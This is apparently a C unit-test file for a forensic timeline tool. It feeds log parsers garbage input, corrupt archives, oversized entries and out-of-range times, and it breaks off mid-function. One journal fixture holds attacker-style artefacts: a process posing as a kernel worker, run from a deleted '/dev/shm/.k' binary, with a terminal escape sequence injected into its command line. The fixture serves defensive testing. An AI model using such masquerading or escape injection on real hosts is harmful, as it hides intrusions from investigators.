#include "unit.h"

#include <archive.h>
#include <archive_entry.h>
#include <zlib.h>

#include "timeline/tl-internal.h"

struct warns {
	unsigned n;
	char last[512];
	char all[4096]; /* the first warnings, one a line */
};

static void
on_warn(const char *msg, void *arg)
{
	struct warns *w = arg;
	size_t n = strlen(w->all);

	w->n++;
	snprintf(w->last, sizeof w->last, "%s", msg);
	snprintf(w->all + n, sizeof w->all - n, "%s\n", msg);
}

static int
to_buf(const char *data, size_t len, void *arg)
{
	return irt_buf_put(arg, data, len);
}

/* The statistics of the last timeline build() wrote. */
static struct irt_tl_stats last;

/* Builds a timeline of one in-memory source with options o and writes
 * it. */
static int
build_opts(struct irt_buf *out, struct warns *w, const char *kind,
    const void *data, size_t len, enum irt_tl_format f, struct irt_tl_opts *o)
{
	struct irt_tl_write_opts wo;
	struct irt_tl *tl;
	int rc;

	memset(&wo, 0, sizeof wo);
	o->warn = on_warn;
	o->arg = w;
	wo.format = f;
	assert_int_equal(irt_tl_new(&tl, o), 0);
	rc = irt_tl_add_buffer(tl, kind, "mem", data, len, NULL);
	if (rc == 0)
		rc = irt_tl_write(tl, &wo, to_buf, out);
	irt_tl_stats(tl, &last);
	irt_tl_free(tl);
	return rc;
}

/* Builds a timeline of one in-memory source and writes it. */
static int
build(struct irt_buf *out, struct warns *w, const char *kind, const void *data,
    size_t len, enum irt_tl_format f, size_t memory)
{
	struct irt_tl_opts o;
	struct irt_tl_write_opts wo;
	struct irt_tl *tl;
	int rc;

	memset(&o, 0, sizeof o);
	memset(&wo, 0, sizeof wo);
	o.warn = on_warn;
	o.arg = w;
	o.memory = memory;
	o.year = 2026;
	wo.format = f;
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	rc = irt_tl_add_buffer(tl, kind, "mem", data, len, NULL);
	if (rc == 0)
		rc = irt_tl_write(tl, &wo, to_buf, out);
	irt_tl_stats(tl, &last);
	irt_tl_free(tl);
	return rc;
}

/* gzip of data, for streams whose size is unknown. */
static void
gzip_buf(struct irt_buf *out, const void *data, size_t len)
{
	z_stream z;

	memset(&z, 0, sizeof z);
	assert_int_equal(
	    deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY),
	    Z_OK);
	irt_buf_clear(out);
	assert_int_equal(irt_buf_grow(out, deflateBound(&z, len)), 0);
	z.next_in = (unsigned char *)(uintptr_t)data;
	z.avail_in = (uInt)len;
	z.next_out = (unsigned char *)out->ptr;
	z.avail_out = (uInt)(out->cap - 1);
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	out->len = z.total_out;
	deflateEnd(&z);
}

static void
test_sizes_and_formats(void **state)
{
	size_t n;
	enum irt_tl_format f;

	(void)state;
	assert_int_equal(irt_tl_parse_size(&n, "64M"), 0);
	assert_int_equal(n, 64u << 20);
	assert_int_equal(irt_tl_parse_size(&n, "2G"), 0);
	assert_int_equal(n, (size_t)2 << 30);
	assert_int_equal(irt_tl_parse_size(&n, "1MiB"), 0);
	assert_int_equal(irt_tl_parse_size(&n, "12"), IRT_EINVAL);
	assert_int_equal(irt_tl_parse_size(&n, "-5M"), IRT_EINVAL);
	assert_int_equal(irt_tl_parse_size(&n, "5X"), IRT_EINVAL);
	assert_int_equal(irt_tl_format_parse(&f, "l2tcsv"), 0);
	assert_int_equal(f, IRT_TL_L2TCSV);
	assert_int_equal(irt_tl_format_parse(&f, "csv"), IRT_EINVAL);
	assert_true(irt_tl_kind_valid("bash_history"));
	assert_true(irt_tl_kind_valid("wtmp"));
	assert_false(irt_tl_kind_valid("nope"));
}

static const char *
name_kind(const char *path)
{
	int k = tl_detect_name(path);

	return k >= 0 ? tl_sources[k]->name : "";
}

static const char *
content_kind(const char *data)
{
	struct tl_head h;
	int k;

	tl_head_init(&h, data, strlen(data), -1);
	k = tl_detect_content(&h);
	return k >= 0 ? tl_sources[k]->name : "";
}

static void
test_detect(void **state)
{
	(void)state;
	assert_int_equal(tl_sources_init(), 0);
	assert_string_equal(name_kind("/var/log/auth.log.2.gz"), "syslog");
	assert_string_equal(name_kind("/var/log/wtmp.1"), "utmp");
	assert_string_equal(name_kind("/var/log/apt/history.log.1.gz"), "apt");
	assert_string_equal(
	    name_kind("/var/log/nginx/access.log-20240101"), "weblog");
	assert_string_equal(name_kind("/root/.bash_history"), "bash_history");
	assert_string_equal(name_kind("ev.tar.gz"), "archive");
	assert_string_equal(name_kind("/etc/passwd"), "");
	assert_string_equal(
	    content_kind("0|/a|1|r|0|0|0|1|1|1|1\n"), "bodyfile");
	assert_string_equal(content_kind("Jan  1 00:00:00 h t: m\n"), "syslog");
	assert_string_equal(
	    content_kind("type=X msg=audit(1.000:1): a\n"), "audit");
	assert_string_equal(
	    content_kind("\nStart-Date: 2026-01-01  00:00:00\n"), "apt");
	assert_string_equal(content_kind("#1700000000\nls\n"), "bash_history");
	assert_string_equal(content_kind("\x01\x02\x03"), "");
}

static void
test_secs(void **state)
{
	irt_ns t;

	(void)state;
	assert_int_equal(tl_parse_secs("1700000000", 10, &t), 0);
	assert_true(t == 1700000000LL * IRT_NS_PER_SEC);
	assert_int_equal(tl_parse_secs("-1.5", 4, &t), 0);
	assert_true(t == -1500000000LL);
	assert_int_equal(tl_parse_secs("1.123456789123", 14, &t), 0);
	assert_true(t == 1123456789LL);
	assert_int_equal(tl_parse_secs("", 0, &t), IRT_EPARSE);
	assert_int_equal(tl_parse_secs("12a", 3, &t), IRT_EPARSE);
	assert_int_equal(tl_parse_secs("-", 1, &t), IRT_EPARSE);
	assert_int_equal(
	    tl_parse_secs("999999999999999999999", 21, &t), IRT_EINVAL);
}

/* The same events in another order give the same bytes. */
static void
test_deterministic(void **state)
{
	static const char a[] = "0|/b|2|r|0|0|1|100|100|100|0\n"
	                        "0|/a|1|r|0|0|1|100|100|100|0\n"
	                        "0|/c|3|r|0|0|1|50|100|100|0\n";
	static const char b[] = "0|/c|3|r|0|0|1|50|100|100|0\n"
	                        "0|/a|1|r|0|0|1|100|100|100|0\n"
	                        "0|/b|2|r|0|0|1|100|100|100|0\n";
	struct irt_buf x = IRT_BUF_INIT, y = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&x, &w, "bodyfile", a, sizeof a - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(
	    build(&y, &w, "bodyfile", b, sizeof b - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 0);
	assert_int_equal(x.len, y.len);
	assert_memory_equal(x.ptr, y.ptr, x.len);
	/* /c first (50), then /a, /b, /c at 100 */
	assert_true(strstr(x.ptr, "\"/a\"") < strstr(x.ptr, "\"/b\""));
	irt_buf_release(&x);
	irt_buf_release(&y);
}

/* Spilling to sorted runs changes nothing in the output. */
static void
test_spill(void **state)
{
	struct irt_buf in = IRT_BUF_INIT, x = IRT_BUF_INIT, y = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	unsigned i, r = 12345;

	(void)state;
	for (i = 0; i < 40000; i++) { /* over 100k events: two threads */
		r = r * 1103515245u + 12345u;
		irt_buf_printf(&in, "0|/f%u|%u|r|0|0|%u|%u|%u|%u|0\n", i, i, i,
		    1600000000u + (r >> 8) % 100000u,
		    1600000000u + (r >> 12) % 1000u, 1600000000u);
	}
	assert_int_equal(
	    build(&x, &w, "bodyfile", in.ptr, in.len, IRT_TL_MACTIME_CSV, 0),
	    0);
	assert_int_equal(last.runs, 0);
	assert_true(last.events > 100000);
	assert_int_equal(build(&y, &w, "bodyfile", in.ptr, in.len,
	                     IRT_TL_MACTIME_CSV, 1u << 20),
	    0);
	/* it did spill: 120,000 events do not fit in 512 KiB */
	assert_true(last.runs >= 2);
	assert_int_equal(x.len, y.len);
	assert_memory_equal(x.ptr, y.ptr, x.len);
	irt_buf_release(&in);
	irt_buf_release(&x);
	irt_buf_release(&y);
}

/* Hostile input for every line parser: no crash, warnings, and the good
 * line at the end is still read. */
static void
test_hostile(void **state)
{
	static const struct {
		const char *kind;
		const char *good;
	} kinds[] = {
		{ "bodyfile", "0|/ok|1|r|0|0|1|1700000000|0|0|0\n" },
		{ "syslog", "Jan  2 03:04:05 h ok: fine\n" },
		{ "bash_history", "#1700000000\nok\n" },
		{ "zsh_history", ": 1700000000:0;ok\n" },
		{ "journal",
		    "__REALTIME_TIMESTAMP=1700000000000000\n"
		    "MESSAGE=ok\n\n" },
		{ "audit", "type=X msg=audit(1700000000.000:1): ok=1\n" },
		{ "dpkg", "2026-01-01 00:00:00 install ok:amd64 <none> 1\n" },
		{ "apt",
		    "Start-Date: 2026-01-01  00:00:00\n"
		    "Commandline: ok\nEnd-Date: 2026-01-01  00:00:01\n" },
		{ "weblog",
		    "1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "
		    "\"GET /ok HTTP/1.1\" 200 1\n" },
		{ "weberror", "2026/01/01 00:00:00 [error] 1#1: ok\n" },
		{ "yum", "2026-01-01T00:00:00Z INFO Installed: ok-1-1.x86_64\n" },
		{ "viminfo", "|2,0,1767225600,,\"ok\"\n" },
		{ "fish_history", "- cmd: ok\n  when: 1767225600\n" },
		{ "docker",
		    "{\"log\":\"ok\\n\",\"stream\":\"stdout\","
		    "\"time\":\"2026-01-01T00:00:00Z\"}\n" },
		{ "cri", "2026-01-01T00:00:00.5Z stdout F ok\n" },
		{ "container",
		    "{\"ID\":\"ok\",\"Created\":\"2026-01-01T00:00:00Z\"}\n" },
		{ "processes",
		    "{\"pid\":1,\"start\":\"2026-01-01T00:00:00Z\","
		    "\"comm\":\"ok\"}\n" },
		{ "packages_verify",
		    "{\"package\":\"ok\",\"path\":\"/ok\",\"status\":"
		    "\"changed\",\"mtime\":\"2026-01-01T00:00:00Z\"}\n" },
	};
	struct irt_buf in = IRT_BUF_INIT, out = IRT_BUF_INIT;
	unsigned char ok[384];
	int16_t type = 7;
	int32_t sec = 1700000000;
	size_t i, j;
	unsigned r = 99, k;

	(void)state;
	/* every kind read from a stream is here, utmp below; lastlog (binary)
	 * and sockets (timed by the processes of their collection) in
	 * test-tl-live.c */
	assert_int_equal(tl_sources_init(), 0);
	for (k = 0; k < tl_nsources; k++) {
		if (tl_sources[k]->parse == NULL ||
		    strcmp(tl_sources[k]->name, "utmp") == 0 ||
		    strcmp(tl_sources[k]->name, "lastlog") == 0 ||
		    strcmp(tl_sources[k]->name, "sockets") == 0)
			continue;
		for (i = 0; i < sizeof kinds / sizeof kinds[0]; i++)
			if (strcmp(kinds[i].kind, tl_sources[k]->name) == 0)
				break;
		if (i == sizeof kinds / sizeof kinds[0])
			fail_msg(
			    "no hostile case for kind %s", tl_sources[k]->name);
	}
	/* utmp: garbage records, then a good one */
	{
		struct warns w = { 0, "", "" };
		memset(ok, 0, sizeof ok);
		memcpy(ok, &type, 2);
		memcpy(ok + 44, "ok", 2);
		memcpy(ok + 340, &sec, 4);
		for (j = 0; j < 384 * 13; j++) {
			r = r * 1103515245u + 12345u;
			irt_buf_putc(&in, (char)(r >> 16));
		}
		irt_buf_put(&in, ok, sizeof ok);
		assert_int_equal(
		    build(&out, &w, "utmp", in.ptr, in.len, IRT_TL_JSONL, 0),
		    0);
		assert_true(w.n > 0);
		assert_non_null(strstr(irt_buf_cstr(&out), "\"user\":\"ok\""));
	}
	for (i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
		struct warns w = { 0, "", "" };
		irt_buf_clear(&in);
		irt_buf_clear(&out);
		/* garbage with NUL bytes and control characters */
		for (j = 0; j < 5000; j++) {
			r = r * 1103515245u + 12345u;
			irt_buf_putc(&in, (char)(r >> 16));
		}
		irt_buf_puts(&in, "\nFeb 30 25:61:61 impossible\n");
		irt_buf_puts(&in, "2026-02-30 10:00:00 install x 1\n");
		irt_buf_puts(&in, "0|/x|1|r|0|0|1|99999999999999999|0|0|0\n");
		/* a line over 1 MiB */
		assert_int_equal(irt_buf_grow(&in, (1u << 20) + 16), 0);
		memset(in.ptr + in.len, 'x', (1u << 20) + 10);
		in.len += (1u << 20) + 10;
		irt_buf_putc(&in, '\n');
		irt_buf_puts(&in, kinds[i].good);
		assert_int_equal(build(&out, &w, kinds[i].kind, in.ptr, in.len,
		                     IRT_TL_JSONL, 0),
		    0);
		assert_true(w.n > 0);
		assert_non_null(strstr(w.last, "mem"));
		if (strstr(irt_buf_cstr(&out), "ok") == NULL) {
			irt_buf_release(&in);
			irt_buf_release(&out);
			fail_msg("%s lost the good line", kinds[i].kind);
		}
	}
	irt_buf_release(&in);
	irt_buf_release(&out);
}

/* A utmp record of 400 bytes (64-bit times). */
static void
utmp400(unsigned char *r, int64_t sec, const char *user)
{
	int16_t type = 7;

	memset(r, 0, 400);
	memcpy(r, &type, 2);
	memcpy(r + 44, user, strlen(user));
	memcpy(r + 344, &sec, 8);
}

/*
 * utmp is read record by record: from a stream of unknown size (gzip)
 * the layout comes from the first records, records across the reader's
 * blocks are whole, and trailing bytes are named by their offset.
 */
static void
test_utmp_stream(void **state)
{
	struct irt_buf in = IRT_BUF_INIT, gz = IRT_BUF_INIT, out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	unsigned char r[400];
	size_t i, n = 0;
	const char *p;

	(void)state;
	for (i = 0; i < 1000; i++) {
		utmp400(r, 1700000000LL + (int64_t)i, "u");
		irt_buf_put(&in, r, sizeof r);
	}
	irt_buf_put(&in, "tail", 4);
	gzip_buf(&gz, in.ptr, in.len);
	assert_int_equal(
	    build(&out, &w, "utmp", gz.ptr, gz.len, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 1);
	assert_string_equal(w.last,
	    "mem: 4 trailing bytes at offset 400000 (not a whole 400-byte "
	    "record), ignored");
	for (p = out.ptr; (p = strstr(p, "\"user\":\"u\"")) != NULL; p++)
		n++;
	assert_int_equal(n, 1000);
	assert_non_null(strstr(out.ptr, "\"time\":\"2023-11-14T22:13:20Z\""));
	assert_non_null(strstr(out.ptr, "\"time\":\"2023-11-14T22:29:59Z\""));
	irt_buf_release(&in);
	irt_buf_release(&gz);
	irt_buf_release(&out);
}

/* A corrupt utmp record: a warning with its offset, the rest read. */
static void
test_utmp(void **state)
{
	unsigned char d[384 * 3];
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	int32_t v;
	int16_t type = 7;
	size_t i;

	(void)state;
	memset(d, 0, sizeof d);
	for (i = 0; i < 3; i++) {
		memcpy(d + i * 384, &type, 2);
		memcpy(d + i * 384 + 44, "root", 4);
		v = 1700000000 + (int32_t)i;
		memcpy(d + i * 384 + 340, &v, 4);
	}
	v = 5000000; /* microseconds out of range */
	memcpy(d + 384 + 344, &v, 4);
	assert_int_equal(
	    build(&out, &w, "utmp", d, sizeof d, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 1);
	assert_non_null(strstr(w.last, "offset 384"));
	assert_non_null(strstr(out.ptr, "2023-11-14T22:13:20Z"));
	assert_non_null(strstr(out.ptr, "2023-11-14T22:13:22Z"));
	assert_null(strstr(out.ptr, "2023-11-14T22:13:21Z"));
	irt_buf_release(&out);
}

/* Truncated and corrupt compressed data in memory. */
static void
test_compressed(void **state)
{
	/* gzip of "2026-01-01 00:00:00 install a 1\n" cut short */
	static const unsigned char gz[] = { 0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00,
		0x00, 0x00, 0x00, 0x03, 0x33, 0x32, 0x30, 0x32 };
	static const unsigned char bz[] = "BZh91AY&SYgarbage";
	static const unsigned char xz[] = "\xfd"
	                                  "7zXZ\0garbage";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "dpkg", gz, sizeof gz, IRT_TL_JSONL, 0), 0);
	assert_true(w.n >= 1);
	assert_non_null(strstr(w.all, "truncated gzip data"));
	w.n = 0;
	assert_int_equal(
	    build(&out, &w, "syslog", bz, sizeof bz - 1, IRT_TL_JSONL, 0), 0);
	assert_true(w.n >= 1);
	w.n = 0;
	assert_int_equal(
	    build(&out, &w, "dpkg", xz, sizeof xz - 1, IRT_TL_JSONL, 0), 0);
	assert_true(w.n >= 1);
	irt_buf_release(&out);
}

/* journalctl -o json: escapes, surrogate pairs, byte arrays, values
 * that are skipped, and broken objects. */
static void
test_journal_json(void **state)
{
	static const char in[] =
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000001\","
	    "\"MESSAGE\":\"caf\\u00e9 \\ud83d\\ude00 \\\"q\\\" \\\\\","
	    "\"_PID\":\"7\",\"N\":null,\"O\":{\"a\":[1,\"]}\"]},"
	    "\"A\":[\"x\"]}\n"
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000002\","
	    "\"MESSAGE\":[104,105,255]}\n"
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000003\",\"MESSAGE\":"
	    "\"x\\q\"}\n"
	    "{\"MESSAGE\":\"unterminated\n"
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000004\",\"MESSAGE\":[1,2,\n"
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000005\",\"MESSAGE\":\"ok\"}"
	    "\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "journal", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_non_null(strstr(out.ptr,
	    "\"message\":\"caf\xc3\xa9 \xf0\x9f\x98\x80 \\\"q\\\" \\\\\""));
	assert_non_null(strstr(out.ptr, "\"pid\":\"7\""));
	assert_non_null(strstr(out.ptr, "\"message_hex\":\"6869ff\""));
	assert_non_null(strstr(out.ptr, "\"message\":\"ok\""));
	assert_int_equal(w.n, 3);
	assert_non_null(strstr(w.all, "mem:3: not a journal JSON object"));
	assert_non_null(strstr(w.all, "mem:4: not a journal JSON object"));
	assert_non_null(strstr(w.all, "mem:5: not a journal JSON object"));
	irt_buf_release(&out);
}

/* The journal's process fields are kept: who wrote the entry, with what
 * program and command line, as which user. */
static void
test_journal_process(void **state)
{
	static const char json[] =
	    "{\"__REALTIME_TIMESTAMP\":\"1700000000000001\",\"MESSAGE\":"
	    "\"started\",\"_PID\":\"4242\",\"_UID\":\"33\",\"_COMM\":"
	    "\"kworkerd\",\"_EXE\":\"/dev/shm/.k (deleted)\",\"_CMDLINE\":"
	    "\"[kworker/0:1]\\u001b[2J\",\"SYSLOG_IDENTIFIER\":\"kw\"}\n";
	static const char export[] = "__REALTIME_TIMESTAMP=1700000000000002\n"
	                             "_COMM=sshd\n"
	                             "_EXE=/usr/sbin/sshd\n"
	                             "_CMDLINE=sshd: root [priv]\n"
	                             "MESSAGE=ok\n\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "journal", json, sizeof json - 1, IRT_TL_JSONL, 0),
	    0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(irt_buf_cstr(&out),
	    "\"message\":\"started\",\"fields\":{\"ident\":\"kw\",\"pid\":"
	    "\"4242\",\"user\":\"33\",\"comm\":\"kworkerd\",\"exe\":"
	    "\"/dev/shm/.k (deleted)\",\"cmdline\":\"[kworker/0:1]\\u001b"
	    "[2J\"}"));
	irt_buf_clear(&out);
	assert_int_equal(build(&out, &w, "journal", export, sizeof export - 1,
	                     IRT_TL_JSONL, 0),
	    0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(irt_buf_cstr(&out),
	    "\"fields\":{\"comm\":\"sshd\",\"exe\":\"/usr/sbin/sshd\","
	    "\"cmdline\":\"sshd: root [priv]\"}"));
	irt_buf_release(&out);
}

/*
 * A history entry is cut at 1 MiB with a warning that names its first
 * line: an entry that never ends (a line without "#epoch" after it, a
 * zsh line that goes on for ever) no longer grows without limit.
 */
static void
test_history_cut(void **state)
{
	struct irt_buf in = IRT_BUF_INIT, out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	char line[1001];
	int i;

	(void)state;
	memset(line, 'x', 1000);
	line[1000] = '\0';
	irt_buf_puts(&in, "#1700000000\nfirst\n#1700000001\n");
	for (i = 0; i < 3000; i++)
		irt_buf_printf(&in, "%s\n", line);
	irt_buf_puts(&in, "#1700000002\nlast\n");
	assert_int_equal(
	    build(&out, &w, "bash_history", in.ptr, in.len, IRT_TL_JSONL, 0),
	    0);
	assert_int_equal(w.n, 1);
	assert_string_equal(
	    w.last, "mem:4: entry longer than 1048576 bytes, cut");
	assert_non_null(strstr(out.ptr, "\"message\":\"first\""));
	assert_non_null(strstr(out.ptr, "\"message\":\"last\""));
	/* the cut entry: whole lines up to 1 MiB (each newline written
	 * as \n), where all of it would be 3 MB */
	assert_true(out.len > 1040000 && out.len < 1051000);

	irt_buf_clear(&in);
	irt_buf_clear(&out);
	memset(&w, 0, sizeof w);
	irt_buf_puts(&in, ": 1700000000:0;first\n: 1700000001:3;cat \\\n");
	for (i = 0; i < 3000; i++)
		irt_buf_printf(&in, "%s\\\n", line);
	irt_buf_puts(&in, "end\n: 1700000002:0;last\n");
	assert_int_equal(
	    build(&out, &w, "zsh_history", in.ptr, in.len, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 1);
	assert_string_equal(
	    w.last, "mem:2: entry longer than 1048576 bytes, cut");
	assert_non_null(strstr(out.ptr, "\"message\":\"first\""));
	assert_non_null(strstr(out.ptr, "\"message\":\"last\""));
	assert_non_null(strstr(out.ptr, "\"message\":\"cat \\nxxx"));
	assert_non_null(strstr(out.ptr, "\"duration\":\"3\""));
	assert_true(out.len > 1040000 && out.len < 1051000);

	/* an apt transaction without an End-Date */
	irt_buf_clear(&in);
	irt_buf_clear(&out);
	memset(&w, 0, sizeof w);
	irt_buf_puts(&in, "Start-Date: 2026-01-01  00:00:00\n");
	for (i = 0; i < 3000; i++)
		irt_buf_printf(&in, "Install: %s\n", line);
	assert_int_equal(
	    build(&out, &w, "apt", in.ptr, in.len, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 1);
	assert_string_equal(
	    w.last, "mem:1: transaction longer than 1048576 bytes, cut");
	assert_non_null(strstr(out.ptr, "\"action\":\"Install,Install,"));
	/* message, action and package: each within 1 MiB */
	assert_true(out.len > 2000000 && out.len < 3200000);
	irt_buf_release(&in);
	irt_buf_release(&out);
}

/*
 * Times that irt_ns cannot hold (year 2500 here) are refused with a
 * warning by every parser, never wrapped around into another time (2500
 * became 1915, before any --since).
 */
static void
test_time_range(void **state)
{
	static const struct {
		const char *kind;
		const char *in;
	} cases[] = {
		{ "bodyfile",
		    "0|/far|1|r|0|0|1|16725225600|16725225600|16725225600|0\n"
		    "0|/ok|2|r|0|0|1|1700000000|0|0|0\n" },
		{ "syslog",
		    "2500-01-01T00:00:00Z h far: x\n"
		    "<13>1 2500-01-01T00:00:00.5+01:00 h far - - - x\n"
		    "Jan  2 03:04:05 h ok: fine\n" },
		{ "bash_history",
		    "#16725225600\nfar\nfar too\n#1700000000\nok\n" },
		{ "zsh_history",
		    ": 16725225600:0;far\\\nfar too\n: 1700000000:0;ok\n" },
		{ "journal",
		    "__REALTIME_TIMESTAMP=16725225600000000\nMESSAGE=far\n\n"
		    "__REALTIME_TIMESTAMP=1700000000000000\nMESSAGE=ok\n\n" },
		{ "audit",
		    "type=X msg=audit(16725225600.000:1): far=1\n"
		    "type=X msg=audit(1700000000.000:2): ok=1\n" },
		{ "dpkg",
		    "2500-01-01 00:00:00 install far:amd64 <none> 1\n"
		    "2026-01-01 00:00:00 install ok:amd64 <none> 1\n" },
		{ "apt",
		    "Start-Date: 2500-01-01  00:00:00\nCommandline: far\n"
		    "Install: far\nEnd-Date: 2500-01-01  00:00:01\n"
		    "Start-Date: 2026-01-01  00:00:00\nCommandline: ok\n"
		    "End-Date: 2026-01-01  00:00:01\n" },
		{ "weblog",
		    "1.2.3.4 - - [01/Jan/2500:00:00:00 +0000] "
		    "\"GET /far HTTP/1.1\" 200 1\n"
		    "1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "
		    "\"GET /ok HTTP/1.1\" 200 1\n" },
		{ "docker",
		    "{\"log\":\"far\\n\",\"time\":\"2500-01-01T00:00:00Z\"}\n"
		    "{\"log\":\"ok\\n\",\"time\":\"2026-01-01T00:00:00Z\"}\n" },
		{ "cri",
		    "2500-01-01T00:00:00.5+01:00 stdout F far\n"
		    "2026-01-01T00:00:00Z stdout F ok\n" },
		{ "container",
		    "{\"ID\":\"far\",\"Created\":\"2500-01-01T00:00:00Z\"}\n"
		    "{\"ID\":\"x\",\"Name\":\"/ok\",\"Created\":"
		    "\"2026-01-01T00:00:00Z\"}\n" },
		{ "utmp", NULL },
		{ "weberror",
		    "2500/01/01 00:00:00 [error] 1#1: far\n"
		    "[Fri Jan 01 00:00:00.5 2500] [core:error] far\n"
		    "2026/01/01 00:00:00 [error] 1#1: ok\n" },
		{ "yum",
		    "2500-01-01T00:00:00Z INFO far\nfar too\n"
		    "2026-01-01T00:00:00Z INFO ok\n" },
		{ "viminfo",
		    "|2,0,16725225600,,\"far\"\n"
		    "|4,48,1,0,16725225600,\"far\"\n"
		    "> far\n\t*\t16725225600\t0\n"
		    "|2,0,1767225600,,\"ok\"\n" },
		{ "fish_history",
		    "- cmd: far\n  when: 16725225600\n"
		    "- cmd: ok\n  when: 1767225600\n" },
		{ "processes",
		    "{\"pid\":1,\"start\":\"2500-01-01T00:00:00Z\","
		    "\"comm\":\"far\"}\n"
		    "{\"pid\":2,\"start\":\"2026-01-01T00:00:00Z\","
		    "\"comm\":\"ok\"}\n" },
		{ "packages_verify",
		    "{\"package\":\"far\",\"path\":\"/far\",\"status\":"
		    "\"changed\",\"mtime\":\"2500-01-01T00:00:00Z\"}\n"
		    "{\"package\":\"ok\",\"path\":\"/ok\",\"status\":"
		    "\"changed\",\"mtime\":\"2026-01-01T00:00:00Z\"}\n" },
	};
	struct irt_buf out = IRT_BUF_INIT;
	unsigned char ut[800];
	unsigned k;
	size_t i;

	(void)state;
	assert_int_equal(tl_sources_init(), 0);
	utmp400(ut, 16725225600LL, "far");
	utmp400(ut + 400, 1700000000LL, "ok");
	/* every kind read from a stream has a case, but sockets (timed by
	 * the processes of their collection) and lastlog (32-bit times) */
	for (k = 0; k < tl_nsources; k++) {
		if (tl_sources[k]->parse == NULL ||
		    strcmp(tl_sources[k]->name, "sockets") == 0 ||
		    strcmp(tl_sources[k]->name, "lastlog") == 0)
			continue;
		for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
			if (strcmp(cases[i].kind, tl_sources[k]->name) == 0)
				break;
		if (i == sizeof cases / sizeof cases[0])
			fail_msg("no case for kind %s", tl_sources[k]->name);
	}
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct warns w = { 0, "", "" };
		irt_buf_clear(&out);
		if (cases[i].in != NULL)
			assert_int_equal(
			    build(&out, &w, cases[i].kind, cases[i].in,
			        strlen(cases[i].in), IRT_TL_JSONL, 0),
			    0);
		else
			assert_int_equal(build(&out, &w, cases[i].kind, ut,
			                     sizeof ut, IRT_TL_JSONL, 0),
			    0);
		if (strstr(irt_buf_cstr(&out), "far") != NULL ||
		    strstr(irt_buf_cstr(&out), "ok") == NULL ||
		    strstr(w.all, "out of range") == NULL) {
			print_message("%s\n%s", irt_buf_cstr(&out), w.all);
			fail_msg("%s: a time out of range was not refused",
			    cases[i].kind);
		}
	}
	irt_buf_release(&out);
}

/* --year beyond the range: every traditional line is refused. */
static void
test_year_range(void **state)
{
	static const char in[] = "Dec 31 23:59:59 h far: x\n"
	                         "Jan  1 00:00:00 h far: y\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };
	struct irt_tl_opts o;

	(void)state;
	memset(&o, 0, sizeof o);
	o.year = 9999;
	assert_int_equal(
	    build_opts(&out, &w, "syslog", in, sizeof in - 1, IRT_TL_JSONL, &o),
	    0);
	assert_int_equal(out.len, 0);
	assert_int_equal(w.n, 2);
	assert_non_null(strstr(w.all,
	    "mem:1: time 9999-12-31T23:59:59 out of range (irt holds "
	    "1677-09-21 to 2262-04-11), line skipped"));
	/* the year goes on at the rollover: 2262 holds, 2263 does not */
	memset(&o, 0, sizeof o);
	o.year = 2262;
	w.n = 0;
	w.all[0] = '\0';
	assert_int_equal(build_opts(&out, &w, "syslog",
	                     "Jan  1 00:00:00 h ok: x\n"
	                     "Jan  2 00:00:00 h ok: y\n",
	                     48, IRT_TL_JSONL, &o),
	    0);
	assert_int_equal(w.n, 0);
	assert_non_null(strstr(out.ptr, "\"time\":\"2262-01-02T00:00:00Z\""));
	irt_buf_release(&out);
}

/* A bodyfile line keeps the times irt can hold. */
static void
test_bodyfile_range(void **state)
{
	static const char in[] =
	    "0|/mixed|1|r|0|0|1|16725225600|1700000000|-99999999999|0\n";
	struct irt_buf out = IRT_BUF_INIT;
	struct warns w = { 0, "", "" };

	(void)state;
	assert_int_equal(
	    build(&out, &w, "bodyfile", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
	assert_int_equal(w.n, 2);
	assert_non_null(strstr(w.all,
	    "mem:1: atime: time @16725225600 out of range (irt holds "
	    "1677-09-21 to 2262-04-11), not used"));
	assert_non_null(strstr(w.all, "mem:1: ctime: time @-99999999999 out"));
	assert_non_null(strstr(out.ptr, "\"time\":\"2023-11-14T22:13:20Z\""));
	assert_non_null(strstr(out.ptr, "\"macb\":\"m...\""));
	assert_null(strstr(out.ptr, "\"atime\""));
	assert_int_equal(strchr(out.ptr, '\n') - out.ptr + 1, (long)out.len);
	irt_buf_release(&out);
}

/* A tar.gz of one member, in a temporary file; returns its path. */
static char *
make_tar(const char *member, const void *data, size_t len)
{
	static char path[64];
	struct archive *a;
	struct archive_entry *e;
	int fd;

